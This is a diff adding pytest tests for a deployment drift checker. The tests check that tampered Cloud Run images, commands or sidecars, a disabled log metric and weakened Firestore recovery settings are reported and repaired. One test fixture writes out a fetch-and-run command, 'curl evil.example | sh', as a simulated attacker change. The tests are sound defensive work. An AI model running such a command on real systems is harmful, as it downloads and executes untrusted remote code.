@@ -1,5 +1,7 @@
 """deploy.sh --check: it changes nothing, and names what differs, members too."""
 
+import copy
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -11,6 +13,8 @@ State = dict[str, Any]
 SERVICES = f"{PLACE}/services"
 SECRET = f"projects/{PROJECT}/secrets/report-sendgrid-api-key"
 WORKER = f"serviceAccount:report-worker@{DOMAIN}"
+DATABASE = f"projects/{PROJECT}/databases/(default)"
+BACKUPS = f"{DATABASE}/backupSchedules/1"
 EVE, PROBE = "user:eve@example.com", f"serviceAccount:probe@{DOMAIN}"
 
 
@@ -93,6 +97,108 @@ def test_a_deployment_names_foreign_members_and_says_how_to_take_their_roles_bac
         "secrets remove-iam-policy-binding report-sendgrid-api-key --member=user:eve@example.com "
         f"--role=roles/secretmanager.secretAccessor --project={PROJECT}"
     )
+
+
+def container_of(service: State) -> State:
+    """Its one container."""
+    container: State = service["spec"]["template"]["spec"]["containers"][0]
+    return container
+
+
+def update_by_hand(state: State, name: str, change: Callable[[State], Any]) -> None:
+    """As `gcloud run services update` or the console does it: a new revision with all labels and annotations of the one
+    before."""
+    service = state["resources"][f"{SERVICES}/report-{name}"]
+    change(service)
+    revisions = state["revisions"][f"{SERVICES}/report-{name}"]
+    newest = copy.deepcopy(revisions[-1])
+    newest["metadata"]["name"] = f"report-{name}-{len(revisions) + 1:05d}-xyz"
+    newest["spec"] = copy.deepcopy(service["spec"]["template"]["spec"])
+    revisions.append(newest)
+    service["status"] |= dict.fromkeys(
+        ("latestCreatedRevisionName", "latestReadyRevisionName"), newest["metadata"]["name"]
+    )
+
+
+EVIL = "us-central1-docker.pkg.dev/evil/evil/report-worker"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda service: container_of(service).update(image=f"{EVIL}@sha256:{'6' * 64}"),
+        # Of the pipeline's own repository, such as that of an older deployment.
+        lambda service: container_of(service).update(
+            image=container_of(service)["image"].rpartition("@")[0] + f"@sha256:{'6' * 64}"
+        ),
+        lambda service: container_of(service).update(command=["sh", "-c"], args=["curl evil.example | sh"]),
+        lambda service: service["spec"]["template"]["spec"]["containers"].append({"image": EVIL, "name": "beside"}),
+    ],
+    ids=["another image", "an older image", "another command", "a container beside it"],
+)
+def test_whatever_else_runs_is_a_difference_and_a_deployment_mends_it(
+    deployed: Deployment, change: Callable[[State], Any]
+) -> None:
+    deployed.edit(lambda state: update_by_hand(state, "worker", change))
+    check = deployed.deploy("--check")
+    assert (check.status, deployed.changes) == (3, []), check.text
+    assert "to be changed: function report-worker" in check.output
+    assert "different: 1," in check.output
+    assert deployed.deploy("--only=worker").status == 0
+    assert "run deploy report-worker" in deployed.changes
+    again = deployed.deploy("--check", "--only=worker")
+    assert again.status == 0, again.text
+
+
+@pytest.mark.parametrize("image", [EVIL, f"{EVIL}:latest"])
+def test_an_image_of_another_repository_is_one_whatever_its_labels_say(deployed: Deployment, image: str) -> None:
+    deployed.edit(lambda state: container_of(state["resources"][f"{SERVICES}/report-worker"]).update(image=image))
+    check = deployed.deploy("--check", "--only=worker")
+    assert check.status == 3
+    assert "differs in function report-worker: spec.template.spec.containers[0].image.repository()" in check.output
+
+
+def test_a_log_metric_that_counts_nothing_is_a_difference(deployed: Deployment) -> None:
+    metric = f"projects/{PROJECT}/metrics/report-runs"
+    deployed.edit(lambda state: state["resources"][metric].update(disabled=True))
+    check = deployed.deploy("--check", "--only=monitoring")
+    assert check.status == 3
+    assert "differs in metric report-runs: disabled" in check.output
+    assert deployed.deploy("--only=monitoring").status == 0
+    assert deployed.changes == ["logging metrics update report-runs"]
+
+
+@pytest.mark.parametrize(
+    ("turn_off", "setting"),
+    [
+        (
+            lambda database, _: database.update(pointInTimeRecoveryEnablement="POINT_IN_TIME_RECOVERY_DISABLED"),
+            "FIRESTORE_PITR=on",
+        ),
+        (
+            lambda database, _: database.update(deleteProtectionState="DELETE_PROTECTION_DISABLED"),
+            "FIRESTORE_DELETE_PROTECTION=on",
+        ),
+        (lambda _, state: state["resources"].pop(BACKUPS), "FIRESTORE_BACKUPS=daily"),
+    ],
+)
+def test_what_brings_data_back_and_was_turned_off_is_a_difference(
+    deployed: Deployment, turn_off: Callable[[State, State], Any], setting: str
+) -> None:
+    deployed.edit(lambda state: turn_off(state["resources"][DATABASE], state))
+    check = deployed.deploy("--check", "--only=firestore")
+    assert check.status == 3, check.text
+    assert "changed by hand: 1," in check.output
+    assert f"set {setting} in deploy.env" in check.errors
+
+    name, _, value = setting.partition("=")
+    deployed.settings[name] = "off"
+    assert deployed.deploy("--check", "--only=firestore").status == 0
+
+    deployed.settings[name] = value
+    assert deployed.deploy("--only=firestore").status == 0
+    assert len(deployed.changes) == 1
+    assert deployed.deploy("--check", "--only=firestore").status == 0
 
 
 @pytest.mark.parametrize("option", ["--dry-run", "--smoke", "--teardown"])
